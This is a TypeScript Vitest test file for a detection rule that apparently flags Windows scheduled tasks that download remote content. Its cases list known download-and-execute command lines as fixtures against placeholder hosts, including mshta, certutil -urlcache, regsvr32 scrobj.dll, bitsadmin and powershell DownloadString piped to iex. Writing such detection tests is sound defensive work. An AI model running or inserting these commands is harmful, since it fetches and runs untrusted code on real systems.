import { expect, test } from 'vitest'
import type { Chain, RunProcess } from '../../model/chain.ts'
import { subjectOf } from '../subject.ts'
import { download } from './download.ts'

/** The weight of a task that starts `action` and of whose run these processes were seen. */
function bitsOf(action: string | null, ...processes: Partial<RunProcess>[]): number {
  const chain = {
    host: 'ws5',
    change: null,
    definition: null,
    statedAction: action,
    statedRunAs: null,
    runs: [{ processes }],
    circumstances: [],
  } as unknown as Chain
  return download.weigh(subjectOf(chain, { hostsWithAction: 1, hosts: 1 }))?.bits ?? 0
}

test.each([
  ['mshta.exe HTTPS://hotel.example/Injection.txt'],
  ['certutil -urlcache -split -f ftp://192.0.2.7/a a.exe'],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"'],
  ['regsvr32 /s /n /u /i:a.sct scrobj.dll'],
  ['bitsadmin.exe /Transfer job \\\\srv\\a.exe C:\\a.exe'],
  ['rundll32 \\\\192.0.2.7@8080\\DavWWWRoot\\a.dll,x'],
  ['cmd /c \\\\host.example@SSL\\share\\a.exe'],
  ['powershell -c "(New-Object Net.WebClient).DownloadString($u)|iex"'],
  ['curl http://localhost.example/a'],
  ['curl http://localhost@192.0.2.7/a'],
])('a task that fetches something from elsewhere: %s', (action) => {
  expect(bitsOf(action)).toBe(5)
})

test('what a child of the task fetches counts too', () => {
  expect(bitsOf('a.exe', { depth: 1, commandLine: 'curl -o b http://192.0.2.7/b' })).toBe(5)
})

test.each([
  ['"C:\\Program Files\\Vendor\\updater.exe" /ua /installsource scheduler'],
  ['curl -s http://localhost:8080/health'],
  ['powershell -c "irm http://127.0.0.1/cron"'],
  ['C:\\Tools\\sync.exe /transfer D:\\a E:\\b'],
  ['robocopy C:\\transfer \\\\srv\\transfer'],
  ['C:\\Windows\\System32\\msiexec.exe /i C:\\a.msi'],
])('a task that fetches nothing from elsewhere: %s', (action) => {
  expect(bitsOf(action)).toBe(0)
})

test('the crash reporter that a browser’s updater starts fetches nothing', () => {
  const commandLine =
    '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\130\\updater.exe" --crash-handler --url=https://clients2.google.com/cr/report'
  expect(
    bitsOf('"C:\\Program Files (x86)\\Google\\GoogleUpdater\\130\\updater.exe" --wake', { depth: 1, commandLine }),
  ).toBe(0)
})

test('the switch of a crash reporter does not excuse a shell', () => {
  expect(bitsOf('powershell.exe --crash-handler iwr http://192.0.2.7/a')).toBe(5)
})
